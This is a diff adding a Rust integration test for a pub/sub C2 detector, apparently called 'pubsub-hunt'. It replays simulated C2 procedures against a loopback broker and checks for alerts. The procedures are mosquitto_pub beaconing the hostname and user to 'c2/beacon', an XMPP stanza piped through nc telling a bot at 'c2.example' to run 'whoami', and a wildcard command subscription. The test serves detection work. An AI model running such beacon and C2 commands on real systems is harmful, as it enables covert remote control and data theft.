@@ -1,0 +1,392 @@
+//! The seeds' three test procedures with the real tools (ATT&CK AN0003, single-shot tools), each
+//! run once as the seeds describe it: `mosquitto_pub` publishing the host's data to `c2/beacon`,
+//! an XMPP stanza piped through `nc` to port 5222, and `mosquitto_sub` waiting on the wildcard
+//! command tree `c2/commands/#`. Mosquitto and an XMPP listener run on the standard ports of a
+//! loopback address of this run's own (all of 127.0.0.0/8 is loopback), so nothing else on the
+//! machine holds those ports.
+//!
+//! Each procedure must raise an alert at medium or above on its first and only connection: live
+//! under `pubsub-hunt watch -i lo`, with the process that ran it and the reason, and from `hunt` on
+//! a tcpdump capture of the same traffic (no processes there, so the two MQTT procedures, from the
+//! same host to the same broker, are one group). Capturing needs root; scripts/test.sh installs
+//! the tools when it runs as root, and `PUBSUB_HUNT_REQUIRE_TOOLS=1` makes their absence a failure.
+
+use std::io::{BufRead, BufReader, Read, Write};
+use std::net::{Ipv4Addr, TcpListener, TcpStream};
+use std::path::PathBuf;
+use std::process::{Command, Stdio};
+use std::time::{Duration, Instant};
+
+mod common;
+use common::is_root;
+
+const MQTT_PORT: u16 = 1883;
+const XMPP_PORT: u16 = 5222;
+/// What the XMPP procedure pipes through `nc`: a stream header and one chat stanza telling a bot
+/// to run a discovery command.
+const STANZA: &[u8] = b"<?xml version='1.0'?><stream:stream to='c2.example' xmlns='jabber:client' \
+      xmlns:stream='http://etherx.jabber.org/streams' version='1.0'>\
+      <message to='bot@c2.example' type='chat'><body>whoami</body></message>";
+
+fn tool(name: &str) -> Option<PathBuf> {
+    std::env::var_os("PATH").and_then(|paths| {
+        std::env::split_paths(&paths)
+            .chain([PathBuf::from("/usr/sbin")])
+            .map(|d| d.join(name))
+            .find(|p| p.is_file())
+    })
+}
+
+/// Kills a child on drop, so a failing assertion does not leave a broker or a capture running.
+struct Running(std::process::Child);
+
+impl Drop for Running {
+    fn drop(&mut self) {
+        let _ = self.0.kill();
+        let _ = self.0.wait();
+    }
+}
+
+/// A loopback address where both standard ports are free, with a listener that takes the XMPP
+/// procedure's bytes on its port 5222.
+fn own_loopback() -> (Ipv4Addr, TcpListener) {
+    let seed = std::process::id()
+        ^ std::time::SystemTime::now()
+            .duration_since(std::time::UNIX_EPOCH)
+            .map_or(0, |d| d.subsec_nanos());
+    for i in 0..50u32 {
+        let x = seed
+            .wrapping_add(i.wrapping_mul(0x9e37_79b9))
+            .wrapping_mul(0x85eb_ca6b);
+        let [a, b, c, _] = x.to_be_bytes();
+        let addr = Ipv4Addr::new(127, 1 + a % 250, b, 1 + c % 250);
+        if TcpListener::bind((addr, MQTT_PORT)).is_err() {
+            continue;
+        }
+        if let Ok(xmpp) = TcpListener::bind((addr, XMPP_PORT)) {
+            return (addr, xmpp);
+        }
+    }
+    panic!("no loopback address with ports {MQTT_PORT} and {XMPP_PORT} free");
+}
+
+/// Accepts connections and reads them to the end, as a server that never answers would.
+fn drain(listener: TcpListener) {
+    std::thread::spawn(move || {
+        for s in listener.incoming() {
+            let Ok(mut s) = s else { return };
+            std::thread::spawn(move || {
+                let mut buf = [0u8; 4096];
+                while matches!(s.read(&mut buf), Ok(n) if n > 0) {}
+            });
+        }
+    });
+}
+
+fn parse(out: &str) -> Vec<serde_json::Value> {
+    out.lines()
+        .map(|l| serde_json::from_str(l).unwrap())
+        .collect()
+}
+
+fn basename(v: &serde_json::Value) -> String {
+    v.as_str()
+        .and_then(|p| std::path::Path::new(p).file_name())
+        .map(|n| n.to_string_lossy().into_owned())
+        .unwrap_or_default()
+}
+
+fn has_topic(v: &serde_json::Value, dir: &str, name: &str) -> bool {
+    v["app"]["topics"]
+        .as_array()
+        .is_some_and(|t| t.iter().any(|t| t["direction"] == dir && t["name"] == name))
+}
+
+fn has_signal(a: &serde_json::Value, id: &str) -> bool {
+    a["signals"].get(id).and_then(serde_json::Value::as_f64) > Some(0.0)
+}
+
+fn at_least_medium(a: &serde_json::Value) -> bool {
+    a["suspicion"] == "medium" || a["suspicion"] == "high"
+}
+
+/// The last alert written for the group matching `pick` (watch writes a group again when it gets
+/// worse).
+fn alert<'a>(
+    lines: &'a [serde_json::Value],
+    addr: Ipv4Addr,
+    protocol: &str,
+    port: u16,
+    pick: impl Fn(&serde_json::Value) -> bool,
+    out: &str,
+) -> &'a serde_json::Value {
+    lines
+        .iter()
+        .filter(|l| l["kind"] == "alert" && l["dst_ip"] == addr.to_string())
+        .filter(|l| l["protocol"] == protocol && l["dst_port"] == port)
+        .filter(|l| pick(l))
+        .last()
+        .unwrap_or_else(|| panic!("no {protocol} alert on {addr}:{port} in:\n{out}"))
+}
+
+/// The alert of one procedure: medium or above, on its one connection, with the evidence.
+fn check_alert(a: &serde_json::Value, seed: &str, signals: &[&str]) {
+    assert!(at_least_medium(a), "{a}");
+    assert_eq!(a["seed_suspicion"], seed, "{a}");
+    for s in signals {
+        assert!(has_signal(a, s), "no {s} in {a}");
+    }
+    let reasons = a["reasons"].to_string();
+    assert!(reasons.contains("rated on its first exchange"), "{a}");
+}
+
+/// Live: the process of each procedure, when the capture could read it before the tool exited
+/// (`mosquitto_pub` and `nc` live a few milliseconds on a loaded machine; `mosquitto_sub` waits
+/// seconds), is named, and then the single-shot tool is the reason.
+fn check_live(lines: &[serde_json::Value], addr: Ipv4Addr, out: &str) {
+    // Each procedure is one recognised session, with its topic or stanza.
+    let sessions: Vec<&serde_json::Value> = lines
+        .iter()
+        .filter(|l| l["kind"] == "session" && l["dst_ip"] == addr.to_string())
+        .collect();
+    let count = |f: &dyn Fn(&serde_json::Value) -> bool| sessions.iter().filter(|s| f(s)).count();
+    assert_eq!(count(&|s| has_topic(s, "publish", "c2/beacon")), 1, "{out}");
+    assert_eq!(
+        count(&|s| has_topic(s, "subscribe", "c2/commands/#")),
+        1,
+        "{out}"
+    );
+    assert_eq!(count(&|s| s["protocol"] == "XMPP"), 1, "{out}");
+    let publisher = alert(
+        lines,
+        addr,
+        "MQTT",
+        MQTT_PORT,
+        |a| has_topic(a, "publish", "c2/beacon"),
+        out,
+    );
+    assert_eq!(publisher["connections"], 1, "{publisher}");
+    check_alert(publisher, "low", &["c2_vocabulary", "payload_host_data"]);
+    if !publisher["process"].is_null() {
+        assert_eq!(basename(&publisher["process"]), "mosquitto_pub");
+        assert!(has_signal(publisher, "single_shot_tool"), "{publisher}");
+        assert!(
+            publisher["reasons"]
+                .to_string()
+                .contains("`mosquitto_pub` is a command-line pub/sub client"),
+            "{publisher}"
+        );
+    }
+    let subscriber = alert(
+        lines,
+        addr,
+        "MQTT",
+        MQTT_PORT,
+        |a| has_topic(a, "subscribe", "c2/commands/#"),
+        out,
+    );
+    assert_eq!(
+        basename(&subscriber["process"]),
+        "mosquitto_sub",
+        "{subscriber}"
+    );
+    assert_eq!(subscriber["connections"], 1, "{subscriber}");
+    check_alert(
+        subscriber,
+        "low",
+        &["wildcard_command_tree", "single_shot_tool"],
+    );
+    assert!(
+        subscriber["reasons"]
+            .to_string()
+            .contains("a wildcard subscription to a command tree"),
+        "{subscriber}"
+    );
+    let stanza = alert(lines, addr, "XMPP", XMPP_PORT, |_| true, out);
+    assert_eq!(stanza["connections"], 1, "{stanza}");
+    check_alert(stanza, "medium", &["c2_vocabulary", "payload_host_data"]);
+    if !stanza["process"].is_null() {
+        assert!(basename(&stanza["process"]).starts_with("nc"), "{stanza}");
+        assert!(has_signal(stanza, "single_shot_tool"), "{stanza}");
+        assert!(
+            stanza["reasons"].to_string().contains("XMPP typed by hand"),
+            "{stanza}"
+        );
+    }
+}
+
+/// From the capture: no processes, so the publisher and the subscriber (same host, same broker)
+/// are one group with both procedures' evidence; the stanza is the other.
+fn check_capture(lines: &[serde_json::Value], addr: Ipv4Addr, out: &str) {
+    let mqtt = alert(lines, addr, "MQTT", MQTT_PORT, |_| true, out);
+    assert!(has_topic(mqtt, "publish", "c2/beacon"), "{mqtt}");
+    assert!(has_topic(mqtt, "subscribe", "c2/commands/#"), "{mqtt}");
+    assert!(mqtt["process"].is_null(), "{mqtt}");
+    assert!(at_least_medium(mqtt), "{mqtt}");
+    assert_eq!(mqtt["seed_suspicion"], "low", "{mqtt}");
+    for s in [
+        "c2_vocabulary",
+        "payload_host_data",
+        "wildcard_command_tree",
+    ] {
+        assert!(has_signal(mqtt, s), "no {s} in {mqtt}");
+    }
+    let stanza = alert(lines, addr, "XMPP", XMPP_PORT, |_| true, out);
+    assert!(stanza["process"].is_null(), "{stanza}");
+    check_alert(stanza, "medium", &["c2_vocabulary", "payload_host_data"]);
+}
+
+#[test]
+fn seed_procedures_alert_on_their_first_connection_live_and_from_a_capture() {
+    let tools: Vec<(&str, Option<PathBuf>)> = [
+        "mosquitto",
+        "mosquitto_pub",
+        "mosquitto_sub",
+        "nc",
+        "tcpdump",
+    ]
+    .iter()
+    .map(|t| (*t, tool(t)))
+    .collect();
+    let missing: Vec<&str> = tools
+        .iter()
+        .filter(|(_, p)| p.is_none())
+        .map(|(t, _)| *t)
+        .collect();
+    if !is_root() || !missing.is_empty() {
+        let why = format!("needs root and {missing:?}");
+        if std::env::var_os("PUBSUB_HUNT_REQUIRE_TOOLS").is_some() {
+            panic!("{why}");
+        }
+        eprintln!("note: real-tools test skipped: {why}");
+        return;
+    }
+    let path = |t: &str| {
+        tools
+            .iter()
+            .find_map(|(n, p)| (*n == t).then(|| p.clone()))
+            .flatten()
+            .unwrap()
+    };
+    let dir = tempfile::tempdir().unwrap();
+    let (addr, xmpp) = own_loopback();
+    drain(xmpp);
+    let conf = dir.path().join("mosquitto.conf");
+    std::fs::write(
+        &conf,
+        format!("listener {MQTT_PORT} {addr}\nallow_anonymous true\n"),
+    )
+    .unwrap();
+    let _broker = Running(
+        Command::new(path("mosquitto"))
+            .arg("-c")
+            .arg(&conf)
+            .stdout(Stdio::null())
+            .stderr(Stdio::null())
+            .spawn()
+            .unwrap(),
+    );
+    // The broker is up before anything watches, so this probe is not part of the procedures.
+    let deadline = Instant::now() + Duration::from_secs(10);
+    while TcpStream::connect((addr, MQTT_PORT)).is_err() {
+        assert!(Instant::now() < deadline, "mosquitto did not start");
+        std::thread::sleep(Duration::from_millis(100));
+    }
+
+    let pcap = dir.path().join("procedures.pcap");
+    let mut tcpdump = Running(
+        Command::new(path("tcpdump"))
+            .args(["-i", "lo", "-U", "-s", "0", "-w"])
+            .arg(&pcap)
+            .arg(format!("tcp and host {addr}"))
+            .stdout(Stdio::null())
+            .stderr(Stdio::null())
+            .spawn()
+            .unwrap(),
+    );
+    let bin = assert_cmd::cargo::cargo_bin("pubsub-hunt");
+    let mut watch = Running(
+        Command::new(&bin)
+            .args([
+                "watch",
+                "--interface",
+                "lo",
+                "--report-every",
+                "1",
+                "--all-sessions",
+            ])
+            .args(["--filter", "tcp"])
+            .stdout(Stdio::piped())
+            .stderr(Stdio::piped())
+            .spawn()
+            .unwrap(),
+    );
+    let mut stderr = BufReader::new(watch.0.stderr.take().unwrap());
+    let mut line = String::new();
+    stderr.read_line(&mut line).unwrap();
+    assert!(line.contains("watching lo"), "{line}");
+    // The line is written as the capture thread starts; give it (and tcpdump) time to open
+    // their sockets on a loaded machine.
+    std::thread::sleep(Duration::from_millis(1500));
+
+    // Procedure 1: the host's data to c2/beacon, as a shell one-liner would send it.
+    let st = Command::new("sh")
+        .arg("-c")
+        .arg(format!(
+            "exec '{}' -h {addr} -p {MQTT_PORT} -t c2/beacon -m \"$(uname -n)|$(id -un)|$(uname -a)\"",
+            path("mosquitto_pub").display()
+        ))
+        .status()
+        .unwrap();
+    assert!(st.success());
+    // Procedure 2: an XMPP stanza piped through nc.
+    let mut nc = Command::new(path("nc"))
+        .args(["-q", "1", &addr.to_string(), &XMPP_PORT.to_string()])
+        .stdin(Stdio::piped())
+        .stdout(Stdio::null())
+        .spawn()
+        .unwrap();
+    nc.stdin.take().unwrap().write_all(STANZA).unwrap();
+    let _ = nc.wait();
+    // Procedure 3: wait for commands on the wildcard command tree (-W ends it with a timeout
+    // status; it only has to have run).
+    let st = Command::new(path("mosquitto_sub"))
+        .args(["-h", &addr.to_string(), "-p", &MQTT_PORT.to_string()])
+        .args(["-t", "c2/commands/#", "-W", "3"])
+        .stdout(Stdio::null())
+        .status()
+        .unwrap();
+    assert!(st.code().is_some());
+    std::thread::sleep(Duration::from_millis(1500));
+
+    let _ = Command::new("kill")
+        .args(["-TERM", &watch.0.id().to_string()])
+        .status();
+    let mut out = String::new();
+    watch
+        .0
+        .stdout
+        .take()
+        .unwrap()
+        .read_to_string(&mut out)
+        .unwrap();
+    let mut rest = String::new();
+    let _ = stderr.read_to_string(&mut rest);
+    assert_eq!(watch.0.wait().unwrap().code(), Some(0), "{rest}");
+    let _ = Command::new("kill")
+        .args(["-INT", &tcpdump.0.id().to_string()])
+        .status();
+    let _ = tcpdump.0.wait();
+
+    check_live(&parse(&out), addr, &format!("{out}\n{rest}"));
+
+    let r = Command::new(&bin).arg("hunt").arg(&pcap).output().unwrap();
+    let stdout = String::from_utf8(r.stdout).unwrap();
+    assert_eq!(
+        r.status.code(),
+        Some(0),
+        "{}",
+        String::from_utf8_lossy(&r.stderr)
+    );
+    check_capture(&parse(&stdout), addr, &stdout);
+}
